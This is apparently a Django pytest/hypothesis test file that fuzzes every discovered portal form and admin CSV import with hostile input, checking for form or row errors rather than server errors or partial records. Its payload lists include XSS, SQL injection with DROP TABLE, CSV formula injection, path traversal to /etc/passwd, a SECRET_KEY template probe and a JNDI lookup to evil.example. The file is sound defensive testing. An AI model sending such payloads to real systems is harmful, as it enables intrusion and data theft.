"""Bad input everywhere: hypothesis throws hostile strings, dates and numbers at every portal form
and every import, and the portal answers with form errors or row errors — never a server error,
never a half-written record.

The forms are discovered, not listed: every portal URL is opened as office staff, each <form> on
the page is parsed for its fields (GET forms such as "choose the organisation" are followed one
step, to reach the form behind them), and the admin's import pages are found through
``admin.site._registry``. New pages and imports are covered as soon as they exist.
Example counts stay modest for CI: HOSTILE_EXAMPLES (default 8) per form.
"""

from __future__ import annotations

import csv
import io
import os
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from django.apps import apps
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chengjiang.accounts.roles import DOMAIN_APPS

from .trust_data import candidate_pks, open_pages
from .trust_data import rich as rich_fixture

rich = rich_fixture

EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "8"))
HYPOTHESIS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=list(HealthCheck),
)

NASTY_TEXT = [
    "",
    " ",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    "'; DROP TABLE branches_meeting; --",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "\t\r\n",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",
    "\ud7ff\ue000\uffff",
    "𠀀𠀁🙂" * 10,
    "../../../../etc/passwd",
    "%s%s%s%n",
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://evil.example/a}",
    "x" * 5000,
    "中" * 1000,
]
NASTY_NUMBERS = ["-1", "0", "-0", "1.5", "1e309", "NaN", "inf", "9" * 40, "0x10", "１２", "1,000"]
NASTY_DATES = [
    "2024-02-30",
    "2023-02-29",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "-2024-01-01",
    "2024-13-01",
    "2024/01/01",
    "２０２４-０１-０１",
    "1900-01-01",
    "2100-01-01",
]
NASTY_CHOICES = ["", "-1", "0", "999999999", "9" * 30, "1 OR 1=1", "null", "[]", "x"]

text_values = st.one_of(st.sampled_from(NASTY_TEXT), st.text(max_size=200))
number_values = st.one_of(st.sampled_from(NASTY_NUMBERS), st.integers().map(str))
date_values = st.one_of(
    st.sampled_from(NASTY_DATES), st.dates().map(lambda d: d.isoformat()), text_values
)


# --- form discovery -----------------------------------------------------------------------------


@dataclass
class Field:
    name: str
    kind: str  # text, number, date, time, choice, checkbox, hidden, file
    options: list[str] = field(default_factory=list)
    value: str = ""
    multiple: bool = False


@dataclass
class Form:
    url: str
    method: str
    fields: dict[str, Field]
    enctype: str = ""


class FormParser(HTMLParser):
    def __init__(self, page_url: str):
        super().__init__(convert_charrefs=True)
        self.page_url = page_url
        self.forms: list[Form] = []
        self.current: Form | None = None
        self.select: Field | None = None
        self.option_value: str | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: (v or "") for k, v in attrs}
        if tag == "form":
            action = a.get("action") or self.page_url
            self.current = Form(
                url=urljoin(self.page_url, action),
                method=(a.get("method") or "get").lower(),
                fields={},
                enctype=a.get("enctype", ""),
            )
            return
        if self.current is None or "disabled" in a:
            return
        name = a.get("name")
        if tag == "input" and name:
            kind = (a.get("type") or "text").lower()
            kind = {
                "email": "text",
                "search": "text",
                "tel": "text",
                "url": "text",
                "password": "text",
                "radio": "choice",
                "datetime-local": "date",
            }.get(kind, kind)
            if kind in ("submit", "button", "image", "reset"):
                if name not in self.current.fields:
                    self.current.fields[name] = Field(name, "hidden", value=a.get("value", ""))
                return
            existing = self.current.fields.get(name)
            if kind == "choice" and existing is not None:
                existing.options.append(a.get("value", ""))
                return
            if kind == "checkbox" and existing is not None:
                existing.options.append(a.get("value", "on"))
                existing.multiple = True
                return
            options = [a.get("value", "on")] if kind in ("checkbox", "choice") else []
            self.current.fields[name] = Field(name, kind, options, a.get("value", ""))
        elif tag == "textarea" and name:
            self.current.fields[name] = Field(name, "text")
        elif tag == "select" and name:
            self.select = Field(name, "choice", multiple="multiple" in a)
            self.current.fields[name] = self.select
        elif tag == "option" and self.select is not None:
            self.select.options.append(a.get("value", ""))
            if "selected" in a:
                self.select.value = a.get("value", "")

    def handle_endtag(self, tag):
        if tag == "select":
            self.select = None
        elif tag == "form" and self.current is not None:
            self.forms.append(self.current)
            self.current = None


SKIP_ACTIONS = ("logout", "login", "set_language")


def _portal_url(url: str) -> str | None:
    parts = urlsplit(url)
    if parts.netloc not in ("", "testserver"):
        return None
    try:
        match = resolve(parts.path)
    except Resolver404:
        return None
    if match.view_name.startswith("admin:") or match.url_name in SKIP_ACTIONS:
        return None
    return parts.path + (f"?{parts.query}" if parts.query else "")


def _default_values(form: Form) -> dict[str, str]:
    values = {}
    for f in form.fields.values():
        if f.kind == "choice":
            non_empty = [o for o in f.options if o]
            values[f.name] = f.value or (non_empty[0] if non_empty else "")
        elif f.kind != "file":
            values[f.name] = f.value
    return values


def discover_forms(client, pks) -> list[Form]:
    found: dict[tuple[str, str, tuple], Form] = {}

    def collect(url, html, depth):
        parser = FormParser(url)
        parser.feed(html)
        for form in parser.forms:
            target = _portal_url(form.url)
            if target is None:
                continue
            form.url = target
            key = (form.method, urlsplit(target).path, tuple(sorted(form.fields)))
            if key in found:
                continue
            found[key] = form
            if (
                form.method == "get"
                and depth < 1
                and any(f.kind == "choice" for f in form.fields.values())
            ):
                query = urlencode(_default_values(form), doseq=True)
                next_url = f"{urlsplit(target).path}?{query}"
                response = client.get(next_url)
                if response.status_code == 200 and "html" in response.get("Content-Type", ""):
                    collect(next_url, response.content.decode(), depth + 1)

    for walked, response in open_pages(client, pks):
        if response.status_code == 200 and "html" in response.get("Content-Type", ""):
            collect(walked.path, response.content.decode(), 0)
    return list(found.values())


# --- invariants ---------------------------------------------------------------------------------


def _domain_models():
    return [
        m
        for m in apps.get_models()
        if m._meta.app_label in DOMAIN_APPS and not m._meta.auto_created
    ]


def _snapshot() -> dict[str, set]:
    return {
        m._meta.label: set(m._default_manager.values_list("pk", flat=True))
        for m in _domain_models()
    }


def _check_written_rows(before, after):
    """Rows a successful post wrote must be whole: each passes its model's full_clean()."""
    problems = []
    for model in _domain_models():
        new = after[model._meta.label] - before[model._meta.label]
        for obj in model._default_manager.filter(pk__in=new):
            try:
                obj.full_clean(validate_unique=False)
            except ValidationError as exc:
                problems.append(f"{model._meta.label} {obj.pk}: {exc.message_dict}")
    assert not problems, problems


def _assert_answered(response, url, before, after):
    assert response.status_code < 500, f"{url} answered {response.status_code}"
    if response.status_code in (200, 400, 403, 404, 405):
        assert before == after, f"{url} wrote records but answered {response.status_code}"
    else:
        _check_written_rows(before, after)


def _strategy_for(f: Field):
    if f.kind == "hidden":
        # Mostly keep hidden values (step markers, ids); sometimes tamper with them.
        return st.one_of(st.just(f.value), st.sampled_from(NASTY_CHOICES), text_values)
    if f.kind == "checkbox":
        return st.lists(st.sampled_from(f.options or ["on"]), max_size=3, unique=True)
    if f.kind == "choice":
        options = [o for o in f.options if o] or [""]
        pick = st.sampled_from(options)
        if f.multiple:
            return st.lists(st.one_of(pick, st.sampled_from(NASTY_CHOICES)), max_size=4)
        return st.one_of(pick, pick, st.sampled_from(NASTY_CHOICES), text_values)
    if f.kind == "number":
        return number_values
    if f.kind in ("date", "month", "time"):
        return date_values
    if f.kind == "file":
        return st.just(None)
    return text_values


def _data_strategy(form: Form):
    fields = {name: _strategy_for(f) for name, f in form.fields.items()}
    return st.fixed_dictionaries(fields)


def _clean(data: dict) -> dict:
    return {k: v for k, v in data.items() if v is not None}


# --- the tests ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_hostile_input_to_every_portal_form(login, users, tree, rich):
    client = login(users.office)
    forms = discover_forms(client, candidate_pks(tree, rich))
    assert forms, "the form discovery found no portal form: it must find every one"
    for form in forms:
        _form_attack(client, form)()


def _form_attack(client, form: Form):
    @HYPOTHESIS
    @given(data=_data_strategy(form))
    def attack(data):
        before = _snapshot()
        payload = _clean(data)
        if form.method == "post":
            response = client.post(form.url, payload)
        else:
            response = client.get(urlsplit(form.url).path, payload)
        _assert_answered(response, form.url, before, _snapshot())

    return attack


def _import_pages(request):
    from import_export.admin import ImportMixin

    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, ImportMixin) and model._meta.app_label in DOMAIN_APPS:
            yield model, model_admin


def _import_headers(model_admin, request) -> list[str]:
    resource_class = model_admin.get_import_resource_classes(request)[0]
    resource = resource_class(**model_admin.get_import_resource_kwargs(request))
    return [f.column_name for f in resource.get_import_fields()]


def _csv_format_index(model_admin) -> str:
    for i, fmt in enumerate(model_admin.get_import_formats()):
        if fmt().get_title().lower() == "csv":
            return str(i)
    raise AssertionError(f"{model_admin} imports no CSV: every import must accept CSV")


@pytest.mark.django_db
def test_hostile_rows_to_every_import(login, users, tree, rf):
    client = login(users.office)
    request = rf.get("/")
    request.user = users.office
    pages = list(_import_pages(request))
    assert pages, "no admin import page was found: the discovery is broken"
    for model, model_admin in pages:
        headers = _import_headers(model_admin, request)
        url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/import/"
        fmt = _csv_format_index(model_admin)
        _import_attack(client, headers, url, fmt)()


def _import_attack(client, headers, url, fmt):
    cell = st.one_of(text_values, number_values, date_values)
    rows = st.lists(st.lists(cell, min_size=len(headers), max_size=len(headers)), max_size=4)

    @HYPOTHESIS
    @given(rows=rows, header_noise=st.booleans())
    def attack(rows, header_noise):
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow([*headers, "=evil()"] if header_noise else headers)
        for row in rows:
            writer.writerow([c.replace("\x00", "") for c in row])
        upload = SimpleUploadedFile(
            "hostile.csv", out.getvalue().encode("utf-8"), content_type="text/csv"
        )
        before = _snapshot()
        response = client.post(url, {"import_file": upload, "format": fmt, "resource": "0"})
        # The first step is the preview: whatever the rows, nothing is written yet.
        assert response.status_code < 500, f"{url} answered {response.status_code}"
        assert _snapshot() == before, f"{url} wrote records at the preview step"

    return attack
